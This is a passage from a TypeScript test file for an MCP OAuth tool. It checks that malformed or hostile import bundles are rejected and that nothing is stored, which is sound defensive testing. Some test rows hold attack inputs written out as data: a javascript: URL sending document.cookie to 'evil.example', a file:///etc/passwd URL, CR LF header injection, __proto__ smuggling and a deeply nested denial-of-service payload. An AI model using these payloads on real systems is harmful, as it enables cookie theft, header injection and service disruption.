          { name: 'Good', url: 'https://good.example/mcp' },
          entry,
          { name: 'Also good', url: 'https://good2.example/mcp' },
        ]);
        assert.deepEqual(
          servers.map((s) => s.name),
          ['Good', 'Also good'],
          'nothing from the bad entry is kept',
        );
        assert.equal(invalid.length, 1);
        assert.equal(invalid[0]!.index, 1);
        assert.equal(invalid[0]!.message, caught.message, 'the tree and the log show the same, presentable, message');
      });
    }

    it('the base entry is valid (each row fails for its planted defect only)', () => {
      assert.equal(parseEntry(base).url, 'https://mcp.example.com/mcp');
      assert.equal(
        parseEntry({
          ...base,
          transport: 'stdio',
          command: 'node',
          args: ['s.js'],
          tokenEnv: 'TOKEN',
          auth: { loopbackPort: 33418, scopes: ['mcp:read'] },
        }).auth.loopbackPort,
        33418,
      );
    });

    it('a setting that is a string, a number or an object → one invalid entry, no servers', () => {
      for (const value of ['https://mcp.example.com/mcp', 1, { servers: [] }]) {
        const { servers, invalid } = parseServers(value);
        assert.deepEqual(servers, []);
        assert.equal(invalid.length, 1);
      }
    });
  });

  describe('import bundles (fromBundle, and `mcp-oauth import` storing nothing)', () => {
    const SERVER = 'https://mcp.example.com/mcp';
    const ISSUER = 'https://as.example.com';
    const now = Date.now();
    const jwt = (claims: Record<string, unknown>): string => new UnsecuredJWT(claims).encode();
    const good = (patch: Record<string, unknown> = {}, drop: string[] = []): string => {
      const doc: Record<string, unknown> = {
        type: BUNDLE_TYPE,
        version: 1,
        serverUrl: SERVER,
        issuer: ISSUER,
        tokenEndpoint: `${ISSUER}/token`,
        clientId: 'client-1',
        accessToken: PLANTED_AT,
        refreshToken: PLANTED_RT,
        expiresAt: new Date(now + 3_600_000).toISOString(),
        scopes: ['mcp:read'],
        resource: SERVER,
        ...patch,
      };
      for (const field of drop) delete doc[field];
      return JSON.stringify(doc);
    };

    let home: string;
    let savedHome: string | undefined;
    before(async () => {
      home = await mkdtemp(path.join(tmpdir(), 'mcp-oauth-corpus-'));
      savedHome = process.env.MCP_OAUTH_HOME;
      process.env.MCP_OAUTH_HOME = home;
    });
    after(async () => {
      if (savedHome === undefined) delete process.env.MCP_OAUTH_HOME;
      else process.env.MCP_OAUTH_HOME = savedHome;
      await rm(home, { recursive: true, force: true });
    });
    const tokensFile = () => path.join(home, 'tokens.json');
    const importText = (text: string) => {
      const out: string[] = [];
      return {
        out,
        run: importBundle({ url: SERVER }, { stdout: (t) => void out.push(t), readStdin: async () => text }),
      };
    };

    const cases: [string, ErrorCode, () => string][] = [
      ['truncated JSON', 'invalid_bundle', () => good().slice(0, 40)],
      ['an array holding a valid bundle', 'invalid_bundle', () => `[${good()}]`],
      ['a number', 'invalid_bundle', () => '42'],
      ['a JSON string holding a bundle', 'invalid_bundle', () => JSON.stringify(good())],
      ['"type" missing', 'invalid_bundle', () => good({}, ['type'])],
      [
        '"type" smuggled in "__proto__"',
        'invalid_bundle',
        () => good({}, ['type']).replace(/^\{/, `{"__proto__":{"type":"${BUNDLE_TYPE}"},`),
      ],
      ['"version" 2', 'invalid_bundle', () => good({ version: 2 })],
      ['"version" the string "1"', 'invalid_bundle', () => good({ version: '1' })],
      ['"serverUrl" missing', 'invalid_bundle', () => good({}, ['serverUrl'])],
      [
        '"serverUrl" a sibling path on the same origin',
        'invalid_bundle',
        () => good({ serverUrl: 'https://mcp.example.com/other', resource: undefined }),
      ],
      ['"serverUrl" a javascript: URL', 'insecure_url', () => good({ serverUrl: 'javascript:alert(1)' })],
      ['"serverUrl" http off loopback', 'insecure_url', () => good({ serverUrl: 'http://mcp.example.com/mcp' })],
      ['"serverUrl" relative', 'invalid_bundle', () => good({ serverUrl: '/mcp' })],
      ['"issuer" a number', 'invalid_bundle', () => good({ issuer: 1 })],
      ['"issuer" http off loopback', 'insecure_url', () => good({ issuer: 'http://as.example.com' })],
      [
        '"tokenEndpoint" a javascript: URL',
        'insecure_url',
        () => good({ tokenEndpoint: 'javascript:fetch("//evil.example/?"+document.cookie)' }),
      ],
      ['"tokenEndpoint" a file: URL', 'insecure_url', () => good({ tokenEndpoint: 'file:///etc/passwd' })],
      ['"tokenEndpoint" missing', 'invalid_bundle', () => good({}, ['tokenEndpoint'])],
      [
        '"tokenEndpoint" with credentials',
        'invalid_bundle',
        () => good({ tokenEndpoint: `https://u:${PLANTED}@as.example.com/token` }),
      ],
      ['"clientId" missing', 'invalid_bundle', () => good({}, ['clientId'])],
      ['"clientId" an object', 'invalid_bundle', () => good({ clientId: { id: 'x' } })],
      ['"accessToken" missing', 'invalid_bundle', () => good({}, ['accessToken'])],
      ['"accessToken" empty', 'invalid_bundle', () => good({ accessToken: '' })],
      ['"accessToken" a number', 'invalid_bundle', () => good({ accessToken: 12345 })],
      [
        '"accessToken" with CR LF (header injection)',
        'invalid_bundle',
        () => good({ accessToken: `${PLANTED_AT}\r\nX-Injected: 1` }),
      ],
      [
        '"accessToken" with a right-to-left override',
        'invalid_bundle',
        () => good({ accessToken: `${PLANTED_AT}\u202e` }),
      ],
      ['"accessToken" of 10 MB', 'invalid_bundle', () => good({ accessToken: 'a'.repeat(10 * MB) })],
      ['"refreshToken" a number', 'invalid_bundle', () => good({ refreshToken: 7 })],
      ['"refreshToken" with a NUL', 'invalid_bundle', () => good({ refreshToken: `${PLANTED_RT}\u0000` })],
      ['"clientId" of 10 MB', 'invalid_bundle', () => good({ clientId: 'c'.repeat(10 * MB) })],
      ['a 10 MB unknown field', 'invalid_bundle', () => good({ padding: 'p'.repeat(10 * MB) })],
      ['"scopes" a string', 'invalid_bundle', () => good({ scopes: 'mcp:read' })],
      ['"scopes" with a number', 'invalid_bundle', () => good({ scopes: ['mcp:read', 1] })],
      ['"resource" for another server', 'invalid_bundle', () => good({ resource: 'https://other.example.com/mcp' })],
      ['"resource" a javascript: URL', 'invalid_bundle', () => good({ resource: 'javascript:alert(1)' })],
      ['"expiresAt" not a date', 'invalid_bundle', () => good({ expiresAt: 'tomorrow' })],
      ['"expiresAt" a number', 'invalid_bundle', () => good({ expiresAt: now + 3_600_000 })],
      [
        'expired an hour ago, no refresh token',
        'invalid_bundle',
        () => good({ expiresAt: new Date(now - 3_600_000).toISOString() }, ['refreshToken']),
      ],
      [
        'a JWT whose "exp" has passed, no refresh token, no expiresAt',
        'invalid_bundle',
        () =>
          good({ accessToken: jwt({ aud: SERVER, iss: ISSUER, exp: Math.floor(now / 1000) - 60 }) }, [
            'refreshToken',
            'expiresAt',
          ]),
      ],
      [
        'a JWT for another resource',
        'invalid_bundle',
        () => good({ accessToken: jwt({ aud: 'https://other.example.com/mcp', iss: ISSUER }) }),
      ],
      [
        'a JWT whose "aud" array names only other resources',
        'invalid_bundle',
        () => good({ accessToken: jwt({ aud: ['https://other.example.com/mcp', 'api://x'], iss: ISSUER }) }),
      ],
      ['a JWT whose "aud" is a number', 'invalid_bundle', () => good({ accessToken: jwt({ aud: 42, iss: ISSUER }) })],
      [
        'a JWT from another issuer',
        'invalid_bundle',
        () => good({ accessToken: jwt({ aud: SERVER, iss: 'https://evil.example.com' }) }),
      ],
      ['three dot-separated parts that are no JWT', 'invalid_bundle', () => good({ accessToken: 'not.a.jwt' })],
      [
        'a deeply nested "type"',
        'invalid_bundle',
        () => good({}, ['type']).replace(/^\{/, `{"type":${'['.repeat(100_000)}${']'.repeat(100_000)},`),
      ],
    ];

    for (const [name, code, text] of cases) {
      it(`${name} → ${code}; import stores nothing`, async () => {
        const bundle = text();
        let caught: unknown;
        try {
          fromBundle(bundle, SERVER, now);
        } catch (error) {
          caught = error;
        }
        assert.ok(caught instanceof McpOAuthError, `expected an McpOAuthError (${code}), got ${String(caught)}`);
        assert.equal(caught.code, code, caught.message);
        assertPresentable(caught.message, [PLANTED]);
        assert.ok(caught.message.length < 500, `message of ${caught.message.length} characters`);

        const { out, run } = importText(bundle);
        await rejectsWithCode(run, code, [PLANTED]);
        assert.deepEqual(out, []);
        assert.ok(!existsSync(tokensFile()), 'tokens.json was not written');
      });
    }

    it('the base bundle imports (each row fails for its planted defect only), and is stored', async () => {
      assert.equal(fromBundle(good(), SERVER, now).accessToken, PLANTED_AT);
      assert.equal(
        fromBundle(
          good({ accessToken: jwt({ aud: SERVER, iss: ISSUER, exp: Math.floor(now / 1000) + 600 }) }),
          SERVER,
          now,
        ).expiresAt,
        (Math.floor(now / 1000) + 600) * 1000,
      );
      // Importing also checks the bundle against what discovery finds for the server: a real one here.
      server.reset();
      server.route(
        '/.well-known/oauth-protected-resource/mcp',
        json(200, { resource: `${o}/mcp`, authorization_servers: [o] }),
      );
      server.route('/.well-known/oauth-authorization-server', json(200, { issuer: o, token_endpoint: `${o}/token` }));
      const out: string[] = [];
      const bundle = good({ serverUrl: `${o}/mcp`, issuer: o, tokenEndpoint: `${o}/token`, resource: `${o}/mcp` });
      await importBundle({ url: `${o}/mcp` }, { stdout: (t) => void out.push(t), readStdin: async () => bundle });
      assert.match(out.join(''), /Imported a token/);
      assert.ok(existsSync(tokensFile()));
      await rm(tokensFile());
    });
  });
});
